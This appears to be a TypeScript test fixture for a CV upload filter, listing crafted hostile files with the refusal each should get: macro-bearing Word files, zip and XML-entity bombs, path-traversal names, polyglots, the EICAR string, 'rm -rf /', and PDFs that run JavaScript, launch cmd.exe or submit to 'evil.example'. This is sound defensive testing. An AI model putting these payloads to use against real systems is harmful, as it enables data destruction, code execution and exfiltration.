import type { CvRefusal } from "@/lib/applications/cv-files/refusals";
import { compoundFile, docm, docx, type Part, pdf, program, settingsWith, outside, zip } from "./attack-files";
import { packedPdf, pdfWith } from "./attack-files-pdf";
import { odt, one } from "./cv-documents";
import { EICAR } from "./fake-clamd";
import { HOSTILE_ODTS } from "./hostile-odts";
import { HOSTILE_RTFS } from "./hostile-rtfs";

/** A file that must not be kept as a CV: what it is, its bytes, and why it is refused. */
export type Hostile = readonly [what: string, bytes: Buffer, reason: CvRefusal];

const latin1 = (text: string) => Buffer.from(text, "latin1");
const office = (name: string) => Buffer.concat([compoundFile(), Buffer.from(name, "utf16le"), Buffer.alloc(512)]);
const inWord = (...parts: Part[]) => docx(...parts);
const many = (length: number, part: (at: number) => Part) => Array.from({ length }, (_, at) => part(at));

/** What something is decides, not what it is called or says it is. */
const OTHER_KINDS: Hostile[] = [
  ["nothing", Buffer.alloc(0), "empty"],
  ["60 MB", Buffer.alloc(60 * 1024 * 1024), "too-large"],
  ["a PDF a byte too large", Buffer.concat([one.pdf(), Buffer.alloc(5 * 1024 * 1024)]), "too-large"],
  ["an old Word file", office("WordDocument"), "old-word"],
  ["a Word file with a password", office("EncryptedPackage"), "locked"],
  ["a document of Pages", zip([{ name: "Index/Document.iwa", content: "x" }]), "pages"],
  ["an older document of Pages", zip([{ name: "Index.zip", content: "PK\x03\x04" }]), "pages"],
  ["a spreadsheet", zip([{ name: "xl/workbook.xml", content: "<x/>" }]), "not-word"],
  ["a presentation", zip([{ name: "ppt/presentation.xml", content: "<x/>" }]), "not-word"],
  ["a program for Java", zip([{ name: "META-INF/MANIFEST.MF", content: "x" }]), "not-word"],
  ["an app for phones", zip([{ name: "AndroidManifest.xml", content: "<x/>" }]), "not-word"],
  ["an archive of nothing", zip([]), "another-kind"],
  ["a photograph", latin1("\xff\xd8\xff\xe0\0\x10JFIF\0\x01"), "picture"],
  ["a picture that moves", latin1("GIF89a\x01\0\x01\0\0\0\0;"), "picture"],
  ["a photograph of an iPhone", latin1("\0\0\0\x18ftypheic\0\0\0\0heicmif1"), "picture"],
  [
    "a drawing with a script",
    latin1('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    "another-kind",
  ],
  ["a web page", latin1("<!doctype html><title>CV</title>"), "another-kind"],
  ["a text", latin1("Sam Okafor\nPlanner"), "another-kind"],
  ["a text in UTF-16", Buffer.from("\ufeffSam Okafor", "utf16le"), "another-kind"],
  ["a program for Windows", program(), "another-kind"],
  ["a program for Linux", latin1("\x7fELF\x02\x01\x01"), "another-kind"],
  ["a script", latin1("#!/bin/sh\nrm -rf /"), "another-kind"],
  ["the file of EICAR", latin1(EICAR), "another-kind"],
  ["a RAR archive", latin1("Rar!\x1a\x07\x01\0"), "another-kind"],
  ["a 7-Zip archive", latin1("7z\xbc\xaf\x27\x1c\0\x04"), "another-kind"],
  ["a gzip archive", latin1("\x1f\x8b\x08\0\0\0\0\0"), "another-kind"],
  ["PostScript", latin1("%!PS-Adobe-3.0\n"), "another-kind"],
  ["a web archive", latin1("MIME-Version: 1.0\nContent-Type: multipart/related\n"), "another-kind"],
  ["Word's XML of 2003", latin1('<?xml version="1.0"?><w:wordDocument/>'), "another-kind"],
  ["random bytes", Buffer.from(Array.from({ length: 999 }, (_, at) => (at * 7919 + 13) % 251)), "another-kind"],
  ["an RTF behind a blank", Buffer.concat([latin1(" "), one.rtf()]), "another-kind"],
];

const WORD: Hostile[] = [
  ["a DOCM as a DOCX", docm(), "macros"],
  ["a DOCX with a macro", inWord({ name: "word/vbaProject.bin", content: "\xd0\xcf\x11\xe0" }), "macros"],
  ["a DOCX with a program as a picture", inWord({ name: "word/media/image1.png", content: "MZ\x90\0" }), "macros"],
  ["a DOCX with a program for Linux", inWord({ name: "word/x", content: latin1("\x7fELF\x02") }), "macros"],
  [
    "a DOCX with an archive",
    inWord({ name: "word/embeddings/x.zip", content: zip([{ name: "a", content: "b" }]) }),
    "inside",
  ],
  ["a DOCX in a DOCX", inWord({ name: "word/embeddings/x.docx", content: docx() }), "inside"],
  ["a DOCM in a DOCX", inWord({ name: "word/embeddings/x.docm", content: docm() }), "inside"],
  [
    "a bomb in a DOCX, packed once more",
    inWord({ name: "word/a.dat", content: zip([{ name: "a", content: Buffer.alloc(9_000_000) }]) }),
    "inside",
  ],
  ["a DOCX with a PDF", inWord({ name: "word/embeddings/x.bin", content: "%PDF-1.7" }), "inside"],
  ["a DOCX with a RAR archive", inWord({ name: "word/x.dat", content: "Rar!\x1a\x07" }), "inside"],
  ["a DOCX with two documents", inWord({ name: "Word/Document.xml", content: "<x/>" }), "damaged"],
  ["a DOCX with a template elsewhere", inWord(settingsWith(outside("https://evil.example/x.dotm"))), "remote"],
  ["a DOCX of a thousandth of its size", inWord({ name: "word/a.bin", content: Buffer.alloc(30_000_000) }), "bomb"],
  [
    "a DOCX of many bombs",
    inWord(...many(40, (at) => ({ name: `word/${at}.bin`, content: Buffer.alloc(1_500_000) }))),
    "bomb",
  ],
  ["a DOCX of ten thousand parts", inWord(...many(10_000, (at) => ({ name: `word/${at}.xml`, content: "" }))), "bomb"],
  [
    "a DOCX whose part is larger than it says",
    inWord({ name: "word/a.xml", content: Buffer.alloc(50_000), saysBytes: 1 }),
    "damaged",
  ],
  [
    "a DOCX whose part is smaller than it says",
    inWord({ name: "word/a.bin", content: "x", saysBytes: 4_000_000_000 }),
    "damaged",
  ],
  ["a DOCX with an absolute name", inWord({ name: "/etc/passwd", content: "x" }), "damaged"],
  ["a DOCX with a name of Windows", inWord({ name: "C:\\x", content: "x" }), "damaged"],
  [
    "a DOCX with an entity that grows",
    inWord({ name: "word/x.xml", content: '<!DOCTYPE l [<!ENTITY a "&b;&b;">]><l>&a;</l>' }),
    "damaged",
  ],
];

const PDFS: Hostile[] = [
  ["a PDF with a password", pdf({ trailer: "/Encrypt 8 0 R " }), "locked"],
  ["a PDF with a program", pdfWith("<< /S /JavaScript /JS (app.alert(1)) >>"), "macros"],
  ["a PDF that starts a program", pdfWith("<< /S /Launch /F (cmd.exe) >>"), "macros"],
  ["a PDF with a program packed away", packedPdf("7 0 << /S /JavaScript >>"), "macros"],
  ["a PDF with a form in XML", pdfWith("<</XFA [(template) 9 0 R]>>"), "macros"],
  ["a PDF with a film", pdfWith("<</Subtype/RichMedia>>"), "macros"],
  ["a PDF with a file in it", pdfWith("<</Names<</EmbeddedFiles 9 0 R>>>>"), "two-in-one"],
  ["a PDF and a ZIP in one", Buffer.concat([pdf(), docx()]), "two-in-one"],
  ["a PDF and a web page in one", pdf({ before: "<html><script>alert(1)</script>" }), "two-in-one"],
  ["a PDF with a book behind it", pdf({ after: "x".repeat(5000) }), "two-in-one"],
  ["a program and a PDF in one", Buffer.concat([program().subarray(0, 512), pdf()]), "two-in-one"],
  ["a ZIP and a PDF in one", Buffer.concat([zip([{ name: "%PDF-1.7", content: "x" }]), one.pdf()]), "two-in-one"],
  ["a PDF that sends itself off", pdfWith("<</S /SubmitForm /F (https://evil.example)>>"), "actions"],
  ["a PDF of a header alone", latin1("%PDF-1.7\n"), "damaged"],
  ["a PDF without a page", latin1("%PDF-1.7\nstartxref\n0\n%%EOF"), "empty"],
];

/** Uploads that broke off: each kind, a tenth of it, two tenths … */
const CUT_OFF: Hostile[] = (["pdf", "docx", "odt", "rtf"] as const).flatMap((kind) => {
  const whole = one[kind]();
  return Array.from({ length: 9 }, (_, at): Hostile => {
    const tenths = at + 1;
    return [`${tenths} tenths of ${kind.toUpperCase()}`, whole.subarray(0, (whole.length * tenths) / 10), "damaged"];
  });
});

export const HOSTILE_CVS: Hostile[] = [...OTHER_KINDS, ...WORD, ...PDFS, ...HOSTILE_ODTS, ...HOSTILE_RTFS, ...CUT_OFF];

/** The same document as an honest one, for what must be taken. */
export const honestOdt = () =>
  odt({
    body: '<text:p>Sam, JavaScript: <text:a xlink:href="https://sam.example">site</text:a></text:p><draw:frame><draw:image xlink:href="Pictures/1.png"/></draw:frame>',
    more: [
      { name: "Pictures/1.png", content: "\x89PNG" },
      { name: "Configurations2/accelerator/current.xml", content: "" },
      {
        name: "styles.xml",
        content: '<office:document-styles><svg:font-face-uri xlink:href="Fonts/a.ttf"/></office:document-styles>',
      },
    ],
  });
